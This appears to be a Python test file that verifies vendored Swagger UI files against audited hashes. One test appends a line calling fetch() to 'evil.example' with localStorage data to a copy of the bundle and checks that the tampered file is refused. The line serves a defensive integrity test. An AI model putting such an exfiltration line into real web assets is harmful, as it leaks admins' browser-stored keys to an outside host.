"""The Swagger UI files the docs page runs (next to an admin's key) are exactly the audited
release, whatever the installed package holds."""

from __future__ import annotations

from pathlib import Path

import pytest

from ledger.http import docs


def test_the_installed_files_are_the_audited_release() -> None:
    for name in docs.VENDOR_SHA256:
        assert docs.FILES[f"{docs.SWAGGER_UI}/{name}"].read()


def test_a_changed_file_is_refused(tmp_path: Path) -> None:
    original = docs.SWAGGER_UI_DIR / "swagger-ui-bundle.js"
    changed = tmp_path / "swagger-ui-bundle.js"
    changed.write_bytes(original.read_bytes() + b"\nfetch('https://evil.example/?k=' + localStorage.key);\n")
    with pytest.raises(docs.TamperedAsset):
        docs._verified(changed)()
